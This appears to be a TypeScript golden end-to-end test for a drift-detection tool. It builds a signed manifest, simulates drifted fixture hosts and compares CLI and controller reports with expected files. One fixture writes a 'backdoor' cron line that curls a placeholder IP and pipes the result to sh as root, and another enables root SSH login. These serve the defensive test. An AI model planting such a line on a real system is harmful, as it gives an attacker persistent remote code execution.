/**
 * The golden end-to-end run (node_exporter's end-to-end-test.sh is the model): a fixed fixture fleet goes through the
 * real CLI and a real controller, and what a user would read — `check --json`, the controller's answer to each report,
 * the drift reports in every format, `report HOST` — is compared byte for byte with the files in test/golden/expected.
 *
 * Only what differs between two honest runs is replaced before the comparison, each by a fixed placeholder: the
 * scratch directory's path, collector timings, the check's wall-clock time, and the random ids of the API tokens the
 * harness creates. Everything else (digests, signatures,
 * severities, order, wording) must match exactly, so any change to what a user sees shows up as a diff here.
 *
 * After an intended change of output: `npm run golden:update`, then review the diff of test/golden/expected.
 */
import { spawn } from 'node:child_process';
import { createPrivateKey, createPublicKey } from 'node:crypto';
import { appendFileSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { reportFromCheck } from '../../agent/report.js';
import { openStore } from '../../controller/store/index.js';
import { CheckResultSchema } from '../../shared/schema/check.js';
import { ManifestSchema } from '../../shared/schema/manifest.js';
import { Harness, HostSim } from '../controller/harness.js';
import { BIN, ensureBuilt } from '../helpers/built-cli.js';
import { copyFixture, FIXTURES, tempDir } from '../helpers/tmp.js';

const EXPECTED = new URL('./expected/', import.meta.url).pathname;
const UPDATE = process.env.UPDATE_GOLDEN === '1';
/** 2026-03-02T00:00:00Z: the bake's createdAt, through SOURCE_DATE_EPOCH. */
const BAKED_AT = '1772409600';
const IMAGE = 'golden-img';

/** A fixed Ed25519 key from a fixed seed, so the manifest's signature is the same bytes on every run. */
function goldenKey(dir: string): { privateFile: string; publicFile: string } {
  const seed = Buffer.alloc(32, 7);
  const pkcs8 = Buffer.concat([Buffer.from('302e020100300506032b657004220420', 'hex'), seed]);
  const key = createPrivateKey({ key: pkcs8, format: 'der', type: 'pkcs8' });
  const privateFile = join(dir, 'golden.key');
  const publicFile = join(dir, 'golden.pub');
  writeFileSync(privateFile, key.export({ type: 'pkcs8', format: 'pem' }), { mode: 0o600 });
  writeFileSync(publicFile, createPublicKey(key).export({ type: 'spki', format: 'pem' }));
  return { privateFile, publicFile };
}

/** The fleet: one clean host and two that drifted the ways servers drift. */
const FLEET: { id: string; hostname: string; drift: (root: string) => void }[] = [
  { id: '00000000000000000000000000000001', hostname: 'web-1', drift: () => {} },
  {
    id: '00000000000000000000000000000002',
    hostname: 'web-2',
    drift: (root) => {
      appendFileSync(join(root, 'etc/ssh/sshd_config'), 'PermitRootLogin yes\n');
      writeFileSync(join(root, 'proc/sys/vm/swappiness'), '60\n');
      writeFileSync(join(root, 'etc/cron.d/backdoor'), '*/5 * * * * root curl -s http://203.0.113.7/x | sh\n');
      const status = join(root, 'var/lib/dpkg/status');
      writeFileSync(
        status,
        readFileSync(status, 'utf8').replace(
          /(Package: openssl\n(?:.+\n)*?)Version: 3\.0\.11-1~deb12u2/,
          '$1Version: 3.0.13-1~deb12u1',
        ),
      );
      // dpkg's own record of that upgrade, after the bake: the attribution every output should carry.
      writeFileSync(
        join(root, 'var/log/dpkg.log'),
        '2026-03-02 09:15:00 startup archives unpack\n' +
          '2026-03-02 09:15:01 upgrade openssl:amd64 3.0.11-1~deb12u2 3.0.13-1~deb12u1\n' +
          '2026-03-02 09:15:02 configure openssl:amd64 3.0.13-1~deb12u1 <none>\n',
      );
    },
  },
  {
    id: '00000000000000000000000000000003',
    hostname: 'web-3',
    drift: (root) => {
      mkdirSync(join(root, 'home/alice/bin'), { recursive: true });
      writeFileSync(join(root, 'home/alice/bin/notes.sh'), '#!/bin/sh\necho notes\n', { mode: 0o755 });
      writeFileSync(join(root, 'usr/bin/strace'), '#!/bin/sh\necho strace\n', { mode: 0o755 });
    },
  },
];

function run(
  args: string[],
  env: Record<string, string> = {},
): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const p = spawn(process.execPath, [BIN, ...args], {
      env: { ...process.env, DRIFTWARDEN_LOG_LEVEL: 'error', ...env },
    });
    let stdout = '';
    let stderr = '';
    p.stdout.on('data', (d) => (stdout += d));
    p.stderr.on('data', (d) => (stderr += d));
    p.on('close', (status) => resolve({ status, stdout, stderr }));
  });
}

/** The documented placeholders: the only differences two honest runs may have. */
function scrub(text: string, roots: Map<string, string>): string {
  let out = text;
  for (const [dir, name] of roots) out = out.split(dir).join(`/golden/${name}`);
  return out
    .replace(/"durationMs":\d+/g, '"durationMs":0')
    .replace(/"scannedAt":"[^"]+"/, '"scannedAt":"<scanned-at>"');
}

/** API tokens get random ids when the harness makes them; the timeline names the token that enrolled a host. */
function scrubTokens(text: string): string {
  return text.replace(/token:[0-9a-f]{8,}\(/g, 'token:<token-id>(');
}

/** Compare with the golden file, or write it under UPDATE_GOLDEN=1. */
function golden(name: string, actual: string): void {
  const file = join(EXPECTED, name);
  if (UPDATE) {
    mkdirSync(EXPECTED, { recursive: true });
    writeFileSync(file, actual);
    return;
  }
  expect.soft(existsSync(file), `${file} is missing: run npm run golden:update`).toBe(true);
  if (!existsSync(file)) return;
  // A plain string comparison, so the failure shows a line diff of what a user would now see; soft, so one run
  // lists every file that changed.
  expect
    .soft(actual, `${name} differs from test/golden/expected/${name} (npm run golden:update if intended)`)
    .toBe(readFileSync(file, 'utf8'));
}

describe('golden end-to-end run', () => {
  let work: string;
  let key: { privateFile: string; publicFile: string };
  const roots = new Map<string, string>();
  let h: Harness;

  beforeAll(async () => {
    expect(ensureBuilt()).toEqual([]);
    work = tempDir('dw-golden-');
    key = goldenKey(work);
    const image = copyFixture(join(FIXTURES, 'hosts/web'));
    roots.set(image, 'image');
    const built = await run(
      [
        'manifest',
        'build',
        '--root',
        image,
        '--image-id',
        IMAGE,
        '--sign-key',
        key.privateFile,
        '--out',
        join(work, 'manifest.json'),
      ],
      { SOURCE_DATE_EPOCH: BAKED_AT },
    );
    expect(built.status, built.stderr).toBe(0);
    for (const host of FLEET) {
      const root = copyFixture(join(FIXTURES, 'hosts/web'));
      writeFileSync(join(root, 'etc/machine-id'), `${host.id}\n`);
      writeFileSync(join(root, 'etc/hostname'), `${host.hostname}\n`);
      host.drift(root);
      roots.set(root, host.hostname);
    }
    const store = await openStore(`sqlite:${join(work, 'controller.db')}`);
    h = await Harness.start(store, {
      publish: false,
      trustedKeys: [createPublicKey(readFileSync(key.publicFile))],
    });
  }, 120_000);
  afterAll(async () => {
    await h?.close();
  });

  it('bakes the same manifest bytes on every run', () => {
    golden('manifest.json', readFileSync(join(work, 'manifest.json'), 'utf8'));
  });

  it('checks each host, reports it, and renders the drift reports exactly as before', async () => {
    const manifest = ManifestSchema.parse(JSON.parse(readFileSync(join(work, 'manifest.json'), 'utf8')));
    const published = await h.publish(manifest);
    expect(published.status, published.text).toBe(201);

    const ingest: unknown[] = [];
    for (const [i, host] of FLEET.entries()) {
      const root = [...roots].find(([, name]) => name === host.hostname)![0];
      const checked = await run([
        'check',
        '--json',
        '--root',
        root,
        '--manifest',
        join(work, 'manifest.json'),
        '--pubkey',
        key.publicFile,
      ]);
      expect(checked.stderr).toBe('');
      golden(`check-${host.hostname}.json`, `exit ${checked.status}\n${scrub(checked.stdout, roots)}`);

      // Enrolled under its own hostname, as the agent does (Harness.enroll names hosts ID.example.internal).
      const enrolled = await h.req('POST', '/api/v1/enroll', {
        token: h.tokens.agent,
        body: { hostId: host.id, hostname: host.hostname, imageId: IMAGE, group: 'web', agentVersion: '0.1.0' },
      });
      expect(enrolled.status, enrolled.text).toBe(201);
      const sim = new HostSim(h, host.id, enrolled.body.credential, IMAGE, manifest);
      const report = {
        ...reportFromCheck(CheckResultSchema.parse(JSON.parse(checked.stdout)), { seq: 1 }),
        reportId: `00000000-0000-4000-8000-00000000000${i + 1}`,
        scannedAt: h.clock.iso(),
      };
      const res = await sim.send(report);
      ingest.push({ host: host.hostname, status: res.status, body: res.body });
      h.clock.advance(60_000);
    }
    golden('ingest.json', scrubTokens(`${JSON.stringify(ingest, null, 2)}\n`));

    for (const format of ['json', 'jsonl', 'csv', 'html'] as const) {
      const r = await h.get(`/api/v1/drift-report?scope=fleet&format=${format}`);
      expect(r.status, r.text).toBe(200);
      golden(`drift-report-fleet.${format}`, scrubTokens(r.text));
    }
    const one = await h.get(`/api/v1/drift-report?scope=host&id=${FLEET[1]!.id}&format=json`);
    expect(one.status, one.text).toBe(200);
    golden('drift-report-web-2.json', scrubTokens(one.text));

    await h.app.listen({ host: '127.0.0.1', port: 0 });
    const env = {
      DRIFTWARDEN_URL: `http://127.0.0.1:${(h.app.server.address() as AddressInfo).port}`,
      DRIFTWARDEN_TOKEN: h.tokens.viewer,
    };
    const text = await run(['report', FLEET[1]!.id], env);
    expect(text.status, text.stderr).toBe(0);
    golden('report-web-2.txt', scrubTokens(text.stdout));
  }, 120_000);
});
